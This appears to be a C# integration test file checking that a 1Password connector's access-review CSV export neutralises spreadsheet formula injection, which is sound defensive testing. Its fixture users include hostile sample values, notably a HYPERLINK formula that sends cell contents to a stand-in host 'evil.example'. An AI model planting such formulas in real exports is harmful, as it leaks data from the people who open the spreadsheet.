using System.Globalization;
using System.Text.Json;
using System.Text.Json.Nodes;
using OnePasswordConnector.TestSupport;
using static OnePasswordConnector.IntegrationTests.AccessReview.ReviewDirectory;

namespace OnePasswordConnector.IntegrationTests.AccessReview;

/// <summary>
/// CSV formula injection (OWASP): a cell a spreadsheet would evaluate, one that begins with =, +, -, @, a tab or a
/// carriage return, is neutralised with a leading ' by default; JSON, and CSV with csvFormulaEscape=false, keep it exact.
/// </summary>
public sealed class CsvInjectionTests(SyncApp app) : IClassFixture<SyncApp>
{
    private static readonly char[] FormulaStarts = ['=', '+', '-', '@', '\t', '\r'];

    /// <summary>Names a hostile or careless directory admin could give: each begins with a character a spreadsheet acts on.</summary>
    private static SyncedDirectory Directory() => new(
        [
            ScimPayload.User(AdaId, "ada@example.org", "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "Lovelace"),
            ScimPayload.User(GraceId, "+grace@example.org", "@SUM(1+1)", "Hopper"),
            ScimPayload.User(LinusId, "-linus@example.org", "\tTabbed", "Torvalds", true, "=cmd@example.org"),
            ScimPayload.User(JeanId, "jean@example.org", "\rReturned", "Sammet, \"JJ\""),
        ],
        [
            ScimPayload.Group(OwnersId, "=1+2", AdaId, GraceId),
            ScimPayload.Group(EngineeringId, "-Engineering, plain", LinusId, JeanId),
        ]);

    private sealed record SyncedDirectory(JsonObject[] Users, JsonObject[] Groups);

    private async Task<(Guid Id, HttpClient Client, List<JsonElement> Json)> SyncAsync()
    {
        var directory = Directory();
        using var bridge = Bridge(directory.Users, directory.Groups);
        var id = await app.RegisterAsync(bridge);
        Assert.Equal("succeeded", (await app.SyncAsync(id)).GetProperty("status").GetString());
        var client = app.ClientWithKey(ConnectorApp.AdminKey);
        return (id, client, await GetAllPagesAsync(client, $"/api/v1/tenants/acme/connections/{id}/access-review", 3));
    }

    /// <summary>The 13 cells of a JSON review row, exactly as stored.</summary>
    private static string[] Cells(JsonElement row)
    {
        static string Text(JsonElement e) => e.ValueKind == JsonValueKind.Null ? "" : e.GetString()!;
        var memberSince = row.GetProperty("memberSince");
        var via = row.GetProperty("via").EnumerateArray().ToArray();
        return
        [
            Text(row.GetProperty("userId")), Text(row.GetProperty("userName")), Text(row.GetProperty("displayName")),
            Text(row.GetProperty("primaryEmail")), string.Join(';', row.GetProperty("emails").EnumerateArray().Select(Text)),
            Text(row.GetProperty("status")), row.GetProperty("active").GetBoolean() ? "true" : "false",
            row.GetProperty("firstSeenAt").GetDateTimeOffset().UtcDateTime.ToString("yyyy-MM-dd'T'HH:mm:ss.ffffff'Z'", CultureInfo.InvariantCulture),
            Text(row.GetProperty("groupId")), Text(row.GetProperty("groupName")),
            memberSince.ValueKind == JsonValueKind.Null ? "" : memberSince.GetDateTimeOffset().UtcDateTime.ToString("yyyy-MM-dd'T'HH:mm:ss.ffffff'Z'", CultureInfo.InvariantCulture),
            string.Join(';', via.Select(g => Text(g.GetProperty("id")))), string.Join(';', via.Select(g => Text(g.GetProperty("displayName")))),
            "", "", "", "", "", "",
        ];
    }

    [Fact]
    public async Task The_CSV_prefixes_a_quote_to_exactly_the_cells_that_begin_with_a_formula_character_and_JSON_keeps_them_exact()
    {
        var (id, client, json) = await SyncAsync();
        using var _ = client;

        var rows = ParseCsv(await client.GetStringAsync($"/api/v1/tenants/acme/connections/{id}/access-review?format=csv")).Skip(1).ToArray();

        Assert.Equal(json.Count, rows.Length);
        var neutralised = 0;
        for (var i = 0; i < rows.Length; i++)
        {
            var exact = Cells(json[i]);
            Assert.Equal(exact.Length, rows[i].Length);
            for (var c = 0; c < exact.Length; c++)
            {
                var risky = exact[c].Length > 0 && FormulaStarts.Contains(exact[c][0]);
                Assert.Equal(risky ? "'" + exact[c] : exact[c], rows[i][c]);
                neutralised += risky ? 1 : 0;
            }
        }

        // Every kind of dangerous start was in the sheet and was neutralised: =, +, -, @, tab and CR.
        Assert.Equal(FormulaStarts.Order(), rows.SelectMany(r => r).Where(c => c.StartsWith('\'')).Select(c => c[1]).Distinct().Order());
        Assert.True(neutralised >= 10, $"{neutralised} cells neutralised");
        Assert.Equal("=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\") Lovelace", json.First(r => r.GetProperty("userId").GetString() == AdaId).GetProperty("displayName").GetString());
        Assert.Equal("=1+2", json.First(r => r.GetProperty("groupId").GetString() == OwnersId).GetProperty("groupName").GetString());
    }

    [Fact]
    public async Task With_csvFormulaEscape_false_the_CSV_cells_equal_the_JSON_values_exactly()
    {
        var (id, client, json) = await SyncAsync();
        using var _ = client;

        var rows = ParseCsv(await client.GetStringAsync($"/api/v1/tenants/acme/connections/{id}/access-review?format=csv&csvFormulaEscape=false"));

        Assert.Equal(AccessReviewHeader, rows[0]);
        Assert.Equal(json.Select(Cells), rows.Skip(1));
        Assert.Contains(rows, r => r[9] == "=1+2");
    }

    private static readonly string[] AccessReviewHeader =
        ["userId", "userName", "displayName", "primaryEmail", "emails", "status", "active", "firstSeenAt", "groupId", "groupName", "memberSince", "viaGroupIds", "viaGroupNames",
         "lastSignInAt", "lastFailedSignInAt", "lastFailedSignInCategory", "signInsLast30Days", "mfaFailuresLast30Days", "signInsKnownSince"];
}
